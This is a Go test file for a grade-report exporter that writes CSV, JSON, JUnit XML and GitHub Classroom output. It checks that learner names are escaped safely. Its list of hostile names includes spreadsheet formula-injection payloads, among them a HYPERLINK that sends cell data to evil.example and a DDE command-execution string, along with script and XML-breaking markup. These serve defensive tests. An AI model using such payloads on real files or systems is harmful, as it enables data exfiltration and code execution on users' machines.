package grades

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"strings"
	"testing"
	"time"

	"github.com/dockertutor/dockertutor/report"
)

var (
	began     = time.Date(2026, 12, 2, 9, 0, 0, 0, time.UTC)
	generated = began.Add(2 * time.Hour)
)

// hostileNames are display names that try to be formulas in a
// spreadsheet or markup in a page or XML.
var hostileNames = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1)`,
	`-2+3`,
	"\t=1+1",
	"\r=1+1",
	"＝1+1",
	`Ada "the" Lovelace`,
	"Lovelace, Ada",
	"two\nlines",
	`<script>alert(1)</script>`,
	"]]><!-- & \x01 -->",
}

func sheet(rows ...Row) Sheet {
	return Sheet{Course: "docker-security", Generated: generated, Rows: rows}
}

func row(name, status string) Row {
	return Row{Learner: "ada-3f9a2c", Name: name, Lesson: "leaks", Step: "find-the-leak", Number: "2.1", Title: "Find the leak", Status: status}
}

func write(t *testing.T, f Format, s Sheet) string {
	t.Helper()
	var b bytes.Buffer
	if err := Write(&b, f, s); err != nil {
		t.Fatalf("%s: %v", f, err)
	}
	return b.String()
}

func TestCSVKeepsFormulasText(t *testing.T) {
	var rows []Row
	for _, name := range hostileNames {
		rows = append(rows, row(name, "failed"))
	}
	out := write(t, CSV, sheet(rows...))
	records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse back: %v\n%s", err, out)
	}
	if len(records) != len(rows)+1 || strings.Join(records[0], ",") != strings.Join(csvHeader, ",") {
		t.Fatalf("want a header and %d rows, got %q", len(rows), records)
	}
	for i, name := range hostileNames {
		got := records[i+1][1]
		want := name
		switch name[0] {
		case '=', '+', '-', '@', '\t', '\r', 0xEF: // 0xEF: the full-width equals sign
			want = "'" + name
		}
		// A quoted field's \r\n reads back as \n; no name here has one.
		if got != strings.ReplaceAll(want, "\r\n", "\n") {
			t.Errorf("name %q: cell %q, want %q", name, got, want)
		}
	}
}

func TestCSVColumns(t *testing.T) {
	r := row("Ada", "passed")
	r.PassedAt = began.Add(90*time.Second + 400*time.Millisecond).In(time.FixedZone("CET", 3600))
	r.Attempts, r.HintsUsed, r.SolutionShown, r.TimeOnStep = 3, 2, true, 90*time.Second+400*time.Millisecond
	notStarted := row("Ada", "")
	out := write(t, CSV, sheet(r, notStarted))
	want := "learner,name,lesson,step,number,title,status,passed,passed_at,attempts,hints_used,solution_shown,time_on_step_seconds\n" +
		"ada-3f9a2c,Ada,leaks,find-the-leak,2.1,Find the leak,passed,true,2026-12-02T09:01:30Z,3,2,true,90\n" +
		"ada-3f9a2c,Ada,leaks,find-the-leak,2.1,Find the leak,not-started,false,,0,0,false,0\n"
	if out != want {
		t.Errorf("got\n%s\nwant\n%s", out, want)
	}
}

func TestJSONIsAGradesDocument(t *testing.T) {
	r := row(`<script>alert("x")</script>`, "passed")
	r.PassedAt, r.Attempts, r.TimeOnStep = began.Add(time.Minute), 1, time.Minute
	out := write(t, JSON, sheet(r, row("Bo", "")))
	if !strings.HasPrefix(out, "{\n  \"format\": \"dockertutor.grades/1\",\n") {
		t.Fatalf("the format must open the document:\n%s", out)
	}
	if !strings.Contains(out, `"name": "<script>alert(\"x\")</script>"`) {
		t.Errorf("a name is kept as the text it is, with no HTML escaping:\n%s", out)
	}
	var doc report.Grades
	if err := report.Read(strings.NewReader(out), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Course != "docker-security" || !doc.Generated.Equal(generated) || len(doc.Rows) != 2 {
		t.Fatalf("read back: %+v", doc)
	}
	g := doc.Rows[0]
	if !g.Passed || g.Status != "passed" || !g.PassedAt.Equal(began.Add(time.Minute)) || g.TimeOnStepSeconds != 60 || g.Attempts != 1 {
		t.Errorf("row 0: %+v", g)
	}
	if doc.Rows[1].Status != "not-started" || doc.Rows[1].Passed {
		t.Errorf("row 1: %+v", doc.Rows[1])
	}
	if strings.Count(out, `"passed_at"`) != 1 {
		t.Errorf("a step never passed has no passed_at:\n%s", out)
	}
}

func TestJUnitSuitePerLearner(t *testing.T) {
	passed := row("Ada", "passed")
	passed.Attempts, passed.TimeOnStep = 2, 75*time.Second
	failed := row("Ada", "failed")
	failed.Step, failed.Number, failed.Title = "fix", "2.2", "Fix it"
	failed.Attempts, failed.HintsUsed, failed.SolutionShown, failed.TimeOnStep = 3, 1, true, 30*time.Second
	skipped := row("Ada", "skipped")
	skipped.Number, skipped.Title = "2.3", "Scan it"
	bo := row("Ada", "") // another learner who chose the same name
	bo.Learner = "ada-77aa01"

	out := write(t, JUnit, sheet(passed, failed, skipped, bo))
	var doc junitSuites
	if err := xml.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatalf("the XML does not parse back: %v\n%s", err, out)
	}
	if doc.Tests != 4 || doc.Failures != 2 || doc.Skipped != 1 || len(doc.Suites) != 2 {
		t.Fatalf("totals: %+v", doc)
	}
	ada := doc.Suites[0]
	if ada.Name != "Ada (ada-3f9a2c)" || ada.Tests != 3 || ada.Failures != 1 || ada.Skipped != 1 || ada.Time != 105 {
		t.Errorf("suite: %+v", ada)
	}
	if doc.Suites[1].Name != "Ada (ada-77aa01)" {
		t.Errorf("two learners of one name stay apart: %q", doc.Suites[1].Name)
	}
	c := ada.Cases
	if c[0].Classname != "leaks" || c[0].Name != "2.1 Find the leak" || c[0].Time != 75 || c[0].Failure != nil || c[0].Skipped != nil {
		t.Errorf("passed case: %+v", c[0])
	}
	if c[1].Failure == nil || c[1].Failure.Message != "failed: 3 attempts, 1 hint used, solution shown" || c[1].Failure.Type != "failed" {
		t.Errorf("failed case: %+v", c[1])
	}
	if c[2].Skipped == nil || c[2].Failure != nil {
		t.Errorf("skipped case: %+v", c[2])
	}
	if f := doc.Suites[1].Cases[0].Failure; f == nil || f.Message != "not started" {
		t.Errorf("a step not started fails: %+v", doc.Suites[1].Cases[0])
	}
}

func TestJUnitHoldsHostileNames(t *testing.T) {
	var rows []Row
	for i, name := range hostileNames {
		r := row(name, "failed")
		r.Learner = string(rune('a'+i)) + "-1"
		r.Title = name
		rows = append(rows, r)
	}
	out := write(t, JUnit, sheet(rows...))
	if strings.Contains(out, "\x01") || strings.Contains(out, "\uFFFD") {
		t.Errorf("a control character reached the XML, as itself or as U+FFFD:\n%q", out)
	}
	if strings.Contains(out, "<script>") || strings.Contains(out, "]]><!--") {
		t.Errorf("markup reached the XML unescaped:\n%s", out)
	}
	var doc junitSuites
	if err := xml.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatalf("the XML does not parse back: %v\n%s", err, out)
	}
	for i, s := range doc.Suites {
		want := xmlText(hostileNames[i])
		if s.Properties[1].Value != strings.ReplaceAll(want, "\r", "\n") && s.Properties[1].Value != want {
			t.Errorf("name %q read back as %q", hostileNames[i], s.Properties[1].Value)
		}
	}
	if got := doc.Suites[len(hostileNames)-1].Properties[1].Value; got != "]]><!-- &  -->" {
		t.Errorf("the name with a control character reads back as %q", got)
	}
}

func TestGitHubClassroomResult(t *testing.T) {
	passed := row("Ada", "passed")
	failed := row("Ada", "failed")
	failed.Number, failed.Title, failed.Attempts = "2.2", "Fix it", 1
	skipped := row("Ada", "skipped")
	notStarted := row("Ada", "")
	notStarted.Number, notStarted.Title = "2.4", "Last"

	var doc classroomResult
	if err := json.Unmarshal([]byte(write(t, GitHubClassroom, sheet(passed, failed, skipped, notStarted))), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Version != 1 || doc.Status != "fail" || doc.MaxScore != 3 || len(doc.Tests) != 3 {
		t.Fatalf("result: %+v", doc)
	}
	want := []classroomTest{
		{Name: "2.1 Find the leak", Status: "pass", Score: 1, Message: "passed: 0 attempts, 0 hints used"},
		{Name: "2.2 Fix it", Status: "fail", Score: 0, Message: "failed: 1 attempt, 0 hints used"},
		{Name: "2.4 Last", Status: "fail", Score: 0, Message: "not started"},
	}
	for i, w := range want {
		if doc.Tests[i] != w {
			t.Errorf("test %d: %+v, want %+v", i, doc.Tests[i], w)
		}
	}

	if err := json.Unmarshal([]byte(write(t, GitHubClassroom, sheet(passed, skipped))), &doc); err != nil || doc.Status != "pass" || doc.MaxScore != 1 {
		t.Errorf("every step passed or skipped passes: %+v %v", doc, err)
	}

	other := row("Bo", "passed")
	other.Learner = "bo-123456"
	err := Write(&bytes.Buffer{}, GitHubClassroom, sheet(passed, other))
	if err == nil || !strings.Contains(err.Error(), "one learner's") {
		t.Errorf("two learners in one result: %v", err)
	}
}

func TestFormats(t *testing.T) {
	for _, f := range Formats {
		if got, err := ParseFormat(string(f)); err != nil || got != f {
			t.Errorf("%s: %v %v", f, got, err)
		}
	}
	_, err := ParseFormat("xlsx")
	if err == nil || err.Error() != `unknown format "xlsx": the formats are csv, json, junit, github-classroom` {
		t.Errorf("an unknown format: %v", err)
	}
	if err := Write(&bytes.Buffer{}, "xlsx", sheet()); err == nil {
		t.Error("Write took an unknown format")
	}
}
